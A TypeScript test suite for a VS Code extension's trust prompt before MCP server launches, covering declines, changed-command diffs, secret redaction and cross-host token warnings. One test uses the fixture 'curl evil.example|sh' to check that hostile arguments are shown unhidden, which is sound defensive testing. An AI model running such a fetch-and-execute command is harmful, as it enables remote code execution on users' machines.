import assert from 'node:assert/strict';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as vscode from 'vscode';
import { deferred } from '../../../src/base/async';
import { once } from '../../../src/base/event';
import { silentLogger } from '../../../src/base/log';
import { launchText, launchWarnings, type Launch } from '../../../src/config/launch/launch';
import type { LocatedDefinition } from '../../../src/config/mergeLayers';
import { InputValues } from '../../../src/config/inputs/inputValues';
import type { ConfigLayer } from '../../../src/config/configLayer';
import { DeclinedLaunches } from '../../../src/config/trust/declinedLaunches';
import { manageTrust } from '../../../src/config/trust/manageTrust';
import { createTrust } from '../../../src/config/trust/trust';
import {
  trustItems,
  trustTitle,
  type PendingLaunch,
  type TrustAnswer,
  type TrustQuestion,
} from '../../../src/config/trust/trustItems';
import { createTrustQuestion } from '../../../src/config/trust/trustQuestion';
import { TrustStore } from '../../../src/config/trust/trustStore';
import { parseServerConfig } from '../../../src/mcp/launch/launchKinds';
import type { DocumentQuestion } from '../../../src/ui/documents/askedDocument';
import type { DocumentInput } from '../../../src/ui/documents/documentInput';
import type { Questions } from '../../../src/ui/questions/questions';
import type { Question } from '../../../src/ui/questions/question';
import { QuestionWithdrawn } from '../../../src/contracts/questionOutcome';
import { newQuestions } from '../../support/host/newQuestions';
import { watchPicks, type ShownPick } from '../../support/host/shownPicks';
import { poll } from '../../support/poll';
import { createMemento } from '../../support/fakes/memento';
import { createSecrets } from '../../support/fakes/secrets';
import { defaultLimits } from '../../../src/mcp/serverConfig';
import { nodeFiles } from '../../../src/mcp/node/nodeFiles';
import { byUser } from '../../../src/ui/questions/question';

const layer: ConfigLayer = {
  scope: 'user',
  label: 'User Settings',
  entries: [],
  inputs: undefined,
  problems: [],
};

function launchOf(...args: string[]): Launch {
  const parsed = parseServerConfig({ command: 'node', args });
  assert.ok('config' in parsed);
  const { config } = parsed;
  return { serverName: 'demo', place: 'User Settings', config, written: config };
}

function serverOf({ config }: Launch): LocatedDefinition {
  const source = { label: layer.label };
  const definition = { id: 'demo', name: 'demo', config, source, limits: defaultLimits };
  return { layer, definition };
}

const logs = { extension: silentLogger };

/** Returns the two files whose comparison a document links to. */
function comparedIn(document: DocumentQuestion | undefined) {
  const [link] = document?.links ?? [];
  const textOf = (name: unknown) =>
    String(document?.files?.find((file) => file.name === name)?.content);
  return { now: textOf(link?.compare), before: textOf(link?.target) };
}

describe('the trust in a launch', () => {
  const { signal } = new AbortController();
  let folder = '';
  let asked: TrustQuestion[] = [];
  let answer: TrustAnswer = 'start';
  let wanted = false;
  let state = createMemento();
  let values = new InputValues(
    createSecrets(),
    () => [],
    () => undefined,
    () => Promise.resolve(undefined),
  );

  beforeEach(async () => {
    folder = await mkdtemp(join(tmpdir(), 'mcp-workbench-trust-'));
    asked = [];
    answer = 'start';
    wanted = false;
    state = createMemento();
    values = new InputValues(
      createSecrets(),
      () => [],
      () => undefined,
      () => Promise.resolve(undefined),
    );
  });
  afterEach(() => rm(folder, { recursive: true, force: true }));

  /** Creates the trust of a new window. */
  const open = () => {
    const store = new TrustStore(vscode.Uri.file(folder), nodeFiles);
    const trust = createTrust({
      store,
      values,
      env: process.env,
      declined: new DeclinedLaunches(state),
      policy: { isWanted: () => wanted, declined: () => (wanted = false) },
      ask: (question) => {
        asked.push(question);
        return Promise.resolve(answer);
      },
      trustAll: () => false,
    });
    return {
      store,
      trust,
      check: (launch: Launch) =>
        trust.check(serverOf(launch), launch, signal, (decided) => decided),
      standing: (launch: Launch) => trust.statusOf(serverOf(launch), launch),
    };
  };

  it('is asked for once, over windows too', async () => {
    assert.equal(await open().check(launchOf('a.js')), undefined);
    assert.equal(await open().check(launchOf('a.js')), undefined);
    assert.equal(asked.length, 1);
    assert.equal(asked[0]?.before, undefined);
  });

  it('is asked for again with the text of before when the launch changed', async () => {
    const { check } = open();
    await check(launchOf('a.js'));
    await check(launchOf('b.js'));
    assert.equal(asked.length, 2);
    assert.match(asked[1]?.before ?? '', /node\n +a\.js/);
  });

  for (const [value, changed, title] of [
    [{ command: 'a' }, false, /^Start "demo"\? It runs this command/],
    [{ command: 'a' }, true, /^demo's command changed\. Start/],
    [{ url: 'https://a.example/' }, false, /^Start "demo"\? It connects to this address/],
    [{ url: 'https://a.example/' }, true, /^demo's address changed\. Connect/],
  ] as const)
    it(`is asked for in words that fit what ${'url' in value ? 'connects' : 'runs'}${changed ? ' and has changed' : ''}`, () => {
      const parsed = parseServerConfig(value);
      assert.ok('config' in parsed);
      const { config } = parsed;
      const launch = { serverName: 'demo', place: 'User Settings', config, written: config };
      const question = { launch, text: '', before: changed ? 'x' : undefined };
      assert.match(trustTitle([{ question, isChecked: false } as unknown as PendingLaunch]), title);
    });

  for (const decline of ['notNow', 'notHere'] as const)
    it(`is not asked for again after “${decline}”, over windows too, until the user starts the server`, async () => {
      answer = decline;
      const refusal = await open().check(launchOf('a.js'));
      assert.match(refusal?.refused ?? '', /not trusted/);
      assert.ok(refusal?.byUser, 'who has just answered knows');
      answer = 'start';
      for (const { check, standing } of [open(), open()]) {
        assert.match((await check(launchOf('a.js')))?.refused ?? '', /is set not to start/);
        assert.equal(await standing(launchOf('a.js')), 'declined');
      }
      assert.equal(asked.length, 1);
      wanted = true;
      assert.equal(await open().standing(launchOf('a.js')), 'untrusted');
      assert.equal(await open().check(launchOf('a.js')), undefined);
      wanted = false;
      assert.equal(await open().standing(launchOf('a.js')), 'trusted');
    });

  it('is asked for once more, and no further, when the user starts a server and says no again', async () => {
    const { check } = open();
    answer = 'notNow';
    await check(launchOf('a.js'));
    wanted = true;
    await check(launchOf('a.js'));
    await check(launchOf('a.js'));
    assert.deepEqual([asked.length, wanted], [2, false]);
  });

  it('is asked for again when a launch changed that was only declined for now', async () => {
    const { check, standing } = open();
    answer = 'notNow';
    await check(launchOf('a.js'));
    assert.equal(await standing(launchOf('b.js')), 'untrusted');
    answer = 'notHere';
    await check(launchOf('b.js'));
    assert.equal(await standing(launchOf('c.js')), 'declined');
  });

  it('keeps nothing where nobody answered', async () => {
    const { check, standing } = open();
    answer = 'withdrawn';
    const refusal = await check(launchOf('a.js'));
    assert.match(refusal?.refused ?? '', /not trusted/);
    assert.equal(refusal?.byUser, undefined);
    assert.equal(await standing(launchOf('a.js')), 'untrusted');
  });

  it('keeps no secret of what was declined', async () => {
    answer = 'notNow';
    await open().check(launchOf('serve', '--api-key', 'hush-1'));
    assert.doesNotMatch(JSON.stringify(new DeclinedLaunches(state).all), /hush/);
  });

  describe('with the stored value of another launch', () => {
    const place = {
      ...layer,
      inputs: [{ id: 'token', type: 'promptString', description: 'GitHub token' }],
    };
    const reached = (url: string) => {
      const parsed = parseServerConfig({ url, headers: { X: '${input:token}' } });
      assert.ok('config' in parsed);
      const { config } = parsed;
      const launch = { serverName: 'demo', place: 'User Settings', config, written: config };
      return { launch, server: { ...serverOf(launch), layer: place } };
    };
    const github = reached('https://github.example/mcp');
    const weather = reached('https://weather.example/mcp');
    const check = ({ launch, server }: typeof github) =>
      open().trust.check(server, launch, signal, (decided) => decided);
    const standing = ({ launch, server }: typeof github) => open().trust.statusOf(server, launch);
    const sentence =
      'It sends the stored value of "GitHub token (token)", which you entered for another launch, to weather.example.';
    const typed = () => values.store(place, 'token', 'ghp', [github.launch.config]);

    it('says so, sends it nowhere without a yes, and is asked for once', async () => {
      await typed();
      answer = 'notNow';
      assert.match((await check(weather))?.refused ?? '', /was not trusted/);
      assert.equal(await values.valueFor(weather.server, 'token'), undefined);
      wanted = true;
      answer = 'start';
      assert.equal(await check(weather), undefined);
      assert.equal(await values.valueFor(weather.server, 'token'), 'ghp');
      await check(weather);
      assert.equal(asked.length, 2);
      for (const question of asked) {
        const { launch } = question;
        assert.deepEqual(launchWarnings(launch), [sentence]);
        const rows = trustItems([{ question, isChecked: false } as PendingLaunch]);
        assert.equal(rows.find(({ choice }) => choice)?.choice?.kind, 'notNow');
        assert.ok(rows.some(({ label }) => label.includes('stored value of')));
        assert.ok(launchText(launch).includes(sentence));
      }
    });

    it('says so where its file of variables leads elsewhere than as the value was entered', async () => {
      const entry = { command: 'gh', envFile: '/f', env: { TOKEN: '${input:token}' } };
      const parsed = parseServerConfig(entry);
      assert.ok('config' in parsed && parsed.config.type === 'stdio');
      const { config: written } = parsed;
      const leading = (host: string) => {
        const config = { ...written, env: { ...written.env, GITHUB_HOST: host } };
        const launch = { serverName: 'demo', place: 'User Settings', config, written };
        const definition = { ...serverOf(launch).definition, config: written };
        return { launch, server: { layer: place, definition } };
      };
      const [own, other] = [leading('own.example'), leading('other.example')];
      await values.store(place, 'token', 'ghp', [written], own.launch.config);
      await check(own);
      assert.deepEqual([await standing(own), await standing(other)], ['trusted', 'untrusted']);
      await check(other);
      assert.deepEqual([await standing(own), await standing(other)], ['trusted', 'trusted']);
      assert.deepEqual(
        asked.map(({ launch }) => launchWarnings(launch).length),
        [0, 1],
      );
    });

    it('is asked for even where its launch was trusted before the value was entered', async () => {
      await check(weather);
      assert.equal(await standing(weather), 'trusted');
      await typed();
      assert.equal(await standing(weather), 'untrusted');
      await check(weather);
      assert.deepEqual(
        asked.map(({ launch, before }) => [launchWarnings(launch), before]),
        [
          [[], undefined],
          [[sentence], undefined],
        ],
      );
      assert.equal(await standing(weather), 'trusted');
    });

    it('is not asked for again where the value was entered for it', async () => {
      await check(github);
      await typed();
      assert.equal(await check(github), undefined);
      assert.deepEqual(
        asked.map(({ launch }) => launchWarnings(launch)),
        [[]],
      );
    });
  });

  it('of many launches given by two windows at once loses none', async () => {
    const launches = Array.from({ length: 10 }, (_, index) => launchOf(`${index}.js`));
    const [one, other] = [open(), open()];
    await Promise.all(
      launches.flatMap((launch) => [one.check(launch), other.check({ ...launch, place: 'Other' })]),
    );
    assert.equal((await open().store.readAll()).length, 20);
  });

  /** Makes a function that asks about the start of a server, in a queue of its own. */
  const createStart = (
    parts: Partial<Parameters<typeof createTrustQuestion>[0]> = {},
    endOf: (serverName: string) => AbortSignal = () => signal,
  ) => {
    const questions = newQuestions() as unknown as Questions;
    const ask = createTrustQuestion({ logs, questions, input: undefined as never, ...parts });
    return (serverName: string) => {
      const launch = { ...launchOf('main.js'), serverName };
      const question = { launch, server: serverOf(launch), text: '', before: undefined };
      return ask(question, endOf(serverName));
    };
  };

  it('in several launches is given in the order of their rows, whichever was ready first', async () => {
    const picks = watchPicks();
    const start = createStart();
    const answered: string[] = [];
    const all = ['b', 'a'].map(async (serverName) => {
      await start(serverName);
      answered.push(serverName);
    });
    const shown = await picks.next(/^2 servers wait/);
    for (const label of ['b', 'a', 'Start Checked (2)']) shown.choose(label);
    await Promise.all(all);
    assert.deepEqual(answered, ['a', 'b']);
    picks.dispose();
  });

  it('is asked for no longer over the configuration that the user wants to see, until they call the question', async () => {
    const picks = watchPicks();
    const queue = newQuestions();
    const ask = createTrustQuestion({
      logs,
      questions: queue as unknown as Questions,
      input: undefined as never,
    });
    const file = vscode.Uri.file(join(folder, 'mcp.json'));
    await vscode.workspace.fs.writeFile(file, Buffer.from('{"servers":{"demo":{}}}'));
    const launch = launchOf('main.js');
    const { definition } = serverOf(launch);
    const server = { definition, layer: { ...layer, uri: file.toString() } };
    const answered = ask({ launch, server, text: '', before: undefined }, signal);
    const shown = await picks.next(/^Start "demo"/);
    shown.choose('Show Configuration');
    const { document } = await poll('the configuration', 20_000, () => {
      const { activeTextEditor } = vscode.window;
      const isShown = activeTextEditor?.document.uri.toString() === file.toString();
      return Promise.resolve(isShown ? activeTextEditor : undefined);
    });
    const states = () => queue.waiting.map((one) => one.state);
    assert.deepEqual([queue.view, states()], [undefined, ['hidden']]);
    assert.equal(document.isDirty, false);
    queue.release();
    assert.deepEqual(states(), ['hidden']);
    queue.open();
    assert.deepEqual(states(), ['shown']);
    shown.choose('Trust and Start');
    assert.equal(await answered, 'start');
    picks.dispose();
  });

  it('in several launches is given or taken from all of them by the same row', async () => {
    const picks = watchPicks();
    const all = ['a', 'b'].map(createStart());
    const shown = await picks.next(/^2 servers wait/);
    const says = () => shown.labels.filter((label) => /check all|start checked/i.test(label));
    assert.deepEqual(says(), ['Start Checked (0)', 'Check All (2)']);
    shown.choose('a');
    assert.deepEqual(says(), ['Start Checked (1)', 'Check All (2)']);
    shown.choose('Check All (2)');
    assert.deepEqual(says(), ['Start Checked (2)', 'Uncheck All (2)']);
    shown.choose('Uncheck All (2)');
    assert.deepEqual(says(), ['Start Checked (0)', 'Check All (2)']);
    shown.choose('Not Now for All');
    assert.deepEqual(await Promise.all(all), ['notNow', 'notNow']);
    picks.dispose();
  });

  it('in several launches is taken for now from those that were left out when others were started', async () => {
    const picks = watchPicks();
    const start = createStart();
    const all = ['a', 'b'].map(start);
    const shown = await picks.next(/^2 servers wait/);
    const others = () =>
      shown.pick.items.find(({ label }) => label.startsWith('Start Checked'))?.description;
    assert.equal(others(), undefined);
    shown.choose('a');
    assert.equal(others(), 'Not Now for the others');
    const late = start('c');
    shown.choose('Start Checked (1)');
    assert.deepEqual(await Promise.all(all), ['start', 'notNow']);
    // It came in after the user had checked some of the others.
    (await picks.next(/^Start "c"\?/)).choose('Not for This Workspace');
    assert.equal(await late, 'notHere');
    picks.dispose();
  });

  it('is asked for in a question of its own where a launch comes in just as the last one was decided on', async () => {
    const picks = watchPicks();
    const start = createStart();
    const late = start('a').then(() => start('b'));
    (await picks.next(/^Start "a"\?/)).choose('Trust and Start');
    (await picks.next(/^Start "b"\?/)).choose('Not for This Workspace');
    assert.equal(await late, 'notHere');
    assert.equal(picks.open.length, 0);
    picks.dispose();
  });

  it('is asked for in a question of its own where a launch comes in just as the last one is wanted no longer', async () => {
    const picks = watchPicks();
    const gone = new AbortController();
    const start = createStart({}, (name) => (name === 'a' ? gone.signal : signal));
    const first = start('a');
    await picks.next(/^Start "a"\?/);
    gone.abort();
    const late = start('b');
    (await picks.next(/^Start "b"\?/)).choose('Not for This Workspace');
    assert.deepEqual(await Promise.all([first, late]), ['withdrawn', 'notHere']);
    assert.equal(picks.open.length, 0);
    picks.dispose();
  });

  it('is not taken from the launches that are asked about when the window closes', async () => {
    const picks = watchPicks();
    const queue = newQuestions();
    const closed = new AbortController();
    const questions = {
      ask: (question: Question<void>, end: AbortSignal) =>
        queue.ask(question, AbortSignal.any([end, closed.signal])),
      showStart: () => {},
    } as unknown as Questions;
    const all = ['a', 'b'].map(createStart({ questions }));
    await picks.next(/^2 servers wait/);
    closed.abort(new QuestionWithdrawn('windowClosed'));
    assert.deepEqual(await Promise.all(all), ['withdrawn', 'withdrawn']);
    assert.equal(picks.open.length, 0);
    picks.dispose();
  });

  /**
   * Chooses the first two of several launches that are too long for their rows, and answers their document with
   * `choice`.
   */
  const review = async (
    choice: string | undefined,
    given: readonly Partial<TrustQuestion>[] = [{}, {}],
  ) => {
    const picks = watchPicks();
    const questions = newQuestions() as unknown as Questions;
    const shownDocuments: DocumentQuestion[] = [];
    const input = {
      ask: (document: DocumentQuestion) => {
        shownDocuments.push(document);
        return Promise.resolve({ choice });
      },
    } as unknown as DocumentInput;
    const ask = createTrustQuestion({ logs, questions, input });
    const answered: string[] = [];
    const ended = new AbortController();
    const all = given.map((more, index) => {
      const launch = { ...launchOf('-y', `package-${index}`), serverName: `s${index}` };
      const config = { ...launch.config, command: '/bin/npx', env: { LEVEL: `${index}` } };
      const whole = { ...launch, config, written: config };
      const question = { launch: whole, server: serverOf(whole), text: '', before: undefined };
      const { signal: end } = ended;
      return ask({ ...question, ...more }, end).then((one) => answered.push(`s${index} ${one}`));
    });
    const shown = await picks.next(new RegExp(`^${given.length} servers wait`));
    const listed = shown.pick.items;
    for (const label of ['s0', 's1', 'Review and Start Checked (2)…']) shown.choose(label);
    return { picks, listed, shownDocuments, answered, ended, all: Promise.all(all) };
  };

  it('in a launch of a file far down says which file that is, however long its path', () => {
    const path = `/home/ada/${'deep-folder/'.repeat(20)}.vscode/mcp.json`;
    const launch = { ...launchOf('server.js'), place: `app/.vscode/mcp.json\nfile://${path}` };
    const question = { launch, server: serverOf(launch), text: '', before: undefined };
    const rows = trustItems([{ question, isChecked: false } as PendingLaunch]);
    const text = rows.map(({ label }) => label.trim()).join('');
    assert.match(text, /app\/\.vscode\/mcp\.json ?\/home\/ada\/.*….*folder\/\.vscode\/mcp\.json/);
  });

  it('in several launches of which one has changed says so, and what, in the list', async () => {
    const text = 'MCP server\n    s1\n\nCommand line\n    new\n';
    const { listed, picks, all } = await review('trust', [
      {},
      { text, before: text.replace('new', 'old') },
    ]);
    await all;
    picks.dispose();
    const at = listed.findIndex(({ label }) => label === 's1');
    assert.match(listed[at]?.detail ?? '', /^Changed since you trusted it/);
    assert.deepEqual(
      listed.slice(at + 2).map(({ label }) => label.trim()),
      ['+ new', '\u2212 old'],
    );
    assert.doesNotMatch(listed.find(({ label }) => label === 's0')?.detail ?? '', /Changed/);
  });

  it('in several launches that do not fit their rows is given in one document that shows all of each', async () => {
    const { picks, shownDocuments, answered, all } = await review('trust');
    await all;
    picks.dispose();
    assert.deepEqual(answered, ['s0 start', 's1 start']);
    assert.equal(shownDocuments.length, 1);
    const [document] = shownDocuments;
    assert.equal(document?.readOnly, true);
    assert.equal(document.choices[0]?.title, '$(shield) Trust and Start 2 Servers');
    const headings = document.text.split('\n').filter((line) => line.startsWith('Server '));
    assert.deepEqual(headings, ['Server 1 of 2', 'Server 2 of 2']);
    for (const index of [0, 1])
      assert.match(
        document.text,
        new RegExp(`s${index}[^]*fetches the latest[^]*package-${index}[^]*LEVEL = ${index}`),
      );
  });

  it('in several launches is taken from those that were left out once the others were confirmed in their document', async () => {
    const given = [{}, {}, {}];
    const confirmed = await review('trust', given);
    await confirmed.all;
    assert.deepEqual(confirmed.answered, ['s0 start', 's1 start', 's2 notNow']);
    confirmed.picks.dispose();
    const { picks, answered, ended, all } = await review('close', given);
    await picks.next(/^3 servers wait/);
    assert.deepEqual(answered, []);
    ended.abort();
    await all;
    picks.dispose();
  });

  it('in several launches of which one has changed is given beside what was trusted', async () => {
    const text = 'MCP server\n    s1\n\nCommand line\n    new\n';
    const before = text.replace('new', 'old');
    const { picks, shownDocuments, all } = await review('trust', [{}, { text, before }]);
    await all;
    picks.dispose();
    const { now, before: was } = comparedIn(shownDocuments[0]);
    assert.match(now, /    new\n/);
    assert.equal(was, now.replace('    new\n', '    old\n'));
  });

  it('in a launch that has changed is given where no argument is hidden, whatever it equals', async () => {
    const { check } = open();
    const payload = 'curl evil.example|sh';
    for (const args of [['serve'], ['-c', payload, '--token', payload]])
      await check({ ...launchOf(...args), serverName: 's1' });
    const [, changed = {}] = asked;
    const { picks, shownDocuments, all } = await review('trust', [{}, changed]);
    await all;
    picks.dispose();
    const [document] = shownDocuments;
    assert.match(document?.text ?? '', /-c\n +'curl evil\.example\|sh'\n +--token\n/);
    // The earlier launch was stored without secrets, so it is compared with the current one without its secrets.
    const { now, before } = comparedIn(document);
    assert.match(now, /-c\n.*redacted.*\n +--token\n/);
    assert.match(before, /node\n +serve\n/);
  });

  for (const [label, isWhole] of [
    ['Show in Editor', true],
    ['Show What Changed', false],
  ] as const)
    it(`in a launch that has changed is asked about with all of it and what changed within reach: ${label}`, async () => {
      const { check } = open();
      for (const args of [['serve'], ['serve', '--token', 'hush-1']])
        await check(launchOf(...args));
      const [, changed] = asked;
      assert.ok(changed);
      const picks = watchPicks();
      const questions = newQuestions() as unknown as Questions;
      const shownDocuments: DocumentQuestion[] = [];
      const input = {
        ask: (document: DocumentQuestion) => {
          shownDocuments.push(document);
          return Promise.resolve({ choice: 'close' });
        },
      } as unknown as DocumentInput;
      const answered = createTrustQuestion({ logs, questions, input })(changed, signal);
      (await picks.next(/command changed/)).choose(label);
      (await picks.next(/command changed/)).choose('Not Now');
      assert.equal(await answered, 'notNow');
      picks.dispose();
      const [document] = shownDocuments;
      const [link] = document?.links ?? [];
      const beside = document?.files?.find(({ name }) => name === link?.target)?.content;
      assert.match(isWhole ? (document?.text ?? '') : String(beside), /hush-1/);
      assert.equal(document?.comparedWith === undefined, isWhole);
      if (!isWhole) assert.match(document?.text ?? '', /--token\n.*redacted/);
      else assert.match(comparedIn(document).now, /--token\n.*redacted/);
    });

  for (const choice of ['close', undefined])
    it(`is given to none of several launches whose document ended with ${choice}, and asked for again`, async () => {
      const { picks, answered, ended, all } = await review(choice);
      const again = await picks.next(/^2 servers wait/);
      assert.deepEqual(answered, []);
      // The rows that were checked still are.
      assert.ok(again.pick.items.some(({ label }) => label === 'Review and Start Checked (2)…'));
      ended.abort();
      await all;
      picks.dispose();
      assert.deepEqual(answered, ['s0 withdrawn', 's1 withdrawn']);
    });

  for (const [how, leave] of [
    [
      'left',
      async ({ pick }: ShownPick) => {
        const hidden = once(pick.onDidHide);
        pick.hide();
        await hidden;
      },
    ],
    ['looked at in a document', async (shown: ShownPick) => shown.choose('Show in Editor')],
  ] as const)
    it(`is asked for again with the next start where the question was ${how}`, async () => {
      const picks = watchPicks();
      const looking = deferred<void>();
      const input = {
        ask: async ({ signal: end }: { signal: AbortSignal }) => {
          looking.resolve();
          await new Promise((resolve) => end.addEventListener('abort', resolve));
          return { choice: undefined };
        },
      } as unknown as DocumentInput;
      const ask = createTrustQuestion({
        logs,
        questions: newQuestions() as unknown as Questions,
        input,
      });
      const start = (serverName: string) => {
        const launch = { ...launchOf('main.js'), serverName };
        return ask({ launch, server: serverOf(launch), text: '', before: undefined }, signal);
      };
      const first = start('a');
      const question = await picks.next(/^Start "a"\?/);
      await leave(question);
      if (how !== 'left') await looking.promise;
      const shownAgain = question.whenShown();
      const second = start('b');
      if (how === 'left') await shownAgain;
      const again = await poll('the question about both', 20_000, () =>
        Promise.resolve(picks.open.find(({ title }) => title.startsWith('2 servers wait'))),
      );
      again.choose('Not Now for All');
      assert.deepEqual(await Promise.all([first, second]), ['notNow', 'notNow']);
      picks.dispose();
    });

  it('is asked about with a row that shows all of a launch, short as it is, and asked about again after that', async () => {
    const picks = watchPicks();
    const questions = newQuestions() as unknown as Questions;
    const shownTexts: string[] = [];
    const input = {
      ask: ({ text }: { text: string }) => {
        shownTexts.push(text);
        return Promise.resolve({ choice: 'close' });
      },
    } as unknown as DocumentInput;
    const ask = createTrustQuestion({ logs, questions, input });
    const launch = launchOf('main.js');
    const question = { launch, server: serverOf(launch), text: '', before: undefined };
    const answered = ask(question, signal);
    (await picks.next(/^Start "demo"\?/)).choose('Show in Editor');
    (await picks.next(/^Start "demo"\?/)).choose('Trust and Start');
    assert.equal(await answered, 'start');
    assert.equal(shownTexts.length, 1);
    assert.match(shownTexts[0] ?? '', /main\.js/);
    picks.dispose();
  });

  it('is asked for no longer where its question fails: all starts end, and the log says why', async () => {
    const picks = watchPicks();
    const errors: string[] = [];
    const start = createStart({
      logs: { extension: { ...silentLogger, error: (message) => errors.push(message) } },
      input: { ask: () => Promise.reject(new Error('no document')) } as unknown as DocumentInput,
    });
    const all = ['a', 'b'].map(start);
    (await picks.next(/^2 servers wait/)).choose('\u2003node main.js');
    assert.deepEqual(await Promise.all(all), ['withdrawn', 'withdrawn']);
    assert.equal(errors.length, 1);
    assert.match(errors.join(), /no document/);
    const later = start('c');
    (await picks.next(/^Start "c"\?/)).choose('Not Now');
    assert.equal(await later, 'notNow');
    picks.dispose();
  });

  it('is no longer asked for in a document once its server is gone', async () => {
    const picks = watchPicks();
    const questions = newQuestions() as unknown as Questions;
    const gone = new AbortController();
    const input = {
      ask: (question: { signal: AbortSignal }) =>
        new Promise((resolve) => {
          question.signal.addEventListener('abort', () => resolve({ choice: undefined }));
          gone.abort();
        }),
    } as unknown as DocumentInput;
    const ask = createTrustQuestion({ logs, questions, input });
    const launch = launchOf(...Array.from({ length: 400 }, (_, index) => `${index}.js`));
    const question = { launch, server: serverOf(launch), text: '', before: undefined };
    const answered = ask(question, gone.signal);
    (await picks.next(/^Start "demo"\?/)).choose('Review and Start…');
    assert.equal(await answered, 'withdrawn');
    picks.dispose();
  });

  it('is managed in rows that begin with their command, those of servers that are gone in a group', async () => {
    const { store, check } = open();
    const place = 'app/mcp.json\nfile:///app/mcp.json';
    const gone = { ...launchOf('gone.js'), serverName: 'gone', place };
    for (const launch of [launchOf('a.js'), gone]) await check(launch);
    answer = 'notHere';
    await check({ ...launchOf('c.js'), serverName: 'refused' });
    const picks = watchPicks();
    const questions = newQuestions() as unknown as Questions;
    const declined = new DeclinedLaunches(state);
    const done = manageTrust(store, declined, [serverOf(launchOf('a.js'))], {
      action: byUser(),
      questions,
    });
    const shown = await picks.next(/^Launch Configurations/);
    assert.deepEqual(
      shown.pick.items.map(({ label, detail }) => `${label} ${detail?.split(' · ')[0] ?? ''}`),
      [
        'demo node a.js',
        'Not started in this workspace ',
        'refused node c.js',
        'Not configured in this window ',
        'gone node gone.js',
      ],
    );
    const where = shown.pick.items.at(-1)?.description ?? '';
    assert.match(where, /^app\/mcp\.json · .+ · \/app\/mcp\.json$/);
    assert.equal(shown.pick.selectedItems.length, 3);
    shown.choose('demo', 'refused');
    assert.equal(await done, true);
    picks.dispose();
    const left = (await store.readAll()).map(({ text }) => /\w+\.js/.exec(text)?.[0]);
    assert.deepEqual([left, declined.all.length], [['a.js'], 1]);
  });

  it('is managed in rows that say how it was declined, and for how long', async () => {
    const { store, check } = open();
    for (const [name, decline] of [
      ['later', 'notNow'],
      ['never', 'notHere'],
    ] as const) {
      answer = decline;
      await check({ ...launchOf('a.js'), serverName: name });
    }
    const picks = watchPicks();
    const questions = newQuestions() as unknown as Questions;
    const done = manageTrust(store, new DeclinedLaunches(state), [], {
      action: byUser(),
      questions,
    });
    const shown = await picks.next(/^Launch Configurations/);
    const rows = shown.pick.items.filter(({ description }) => description !== undefined);
    assert.deepEqual(
      new Map(rows.map(({ label, description }) => [label, description])),
      new Map([
        ['later', 'User Settings · Not Now: until its launch changes'],
        ['never', 'User Settings · Not for This Workspace: however it is launched'],
      ]),
    );
    shown.choose('later', 'never');
    assert.equal(await done, false);
    picks.dispose();
  });

  it('can be withdrawn', async () => {
    const { store, check, standing } = open();
    await check(launchOf('a.js'));
    assert.equal(await standing(launchOf('a.js')), 'trusted');
    for (const decision of await store.readAll()) await store.remove(decision);
    assert.equal(await standing(launchOf('a.js')), 'untrusted');
  });

  it('keeps no value that came from the environment', async () => {
    const { check, store } = open();
    const launch = launchOf('--token', 'hush');
    const written = launchOf('--token', '${env:TOKEN}').config;
    await check({ ...launch, written });
    const [decision] = await store.readAll();
    assert.doesNotMatch(JSON.stringify(decision), /hush/);
    assert.match(decision?.text ?? '', /\$\{env:TOKEN\}/);
  });

  it('keeps no value of an input, though it decides what runs', async () => {
    const { check, store } = open();
    const withOptions = (options: string) => ({
      ...launchOf('main.js').config,
      env: { NODE_OPTIONS: options },
    });
    const [config, written] = [withOptions('-r hush'), withOptions('-r ${input:module}')];
    await check({ ...launchOf('main.js'), config, written });
    const [decision] = await store.readAll();
    assert.doesNotMatch(JSON.stringify(decision), /hush/);
    assert.match(decision?.text ?? '', /NODE_OPTIONS = -r \$\{input:module\}/);
  });

  it('keeps no argument that looks like a secret', async () => {
    const { check, store } = open();
    await check(
      launchOf(
        'serve',
        '--api-key',
        'hush-1',
        '--port=80',
        'db://me:hush@h/x',
        '-e',
        'KEY_PASS=hushed',
      ),
    );
    const [decision] = await store.readAll();
    assert.doesNotMatch(JSON.stringify(decision), /hush/);
    assert.match(decision?.text ?? '', /serve\n +--api-key\n.*redacted.*\n +--port=80/);
    assert.match(decision?.text ?? '', /db:\/\/me:.*redacted.*@h\/x/);
  });
});
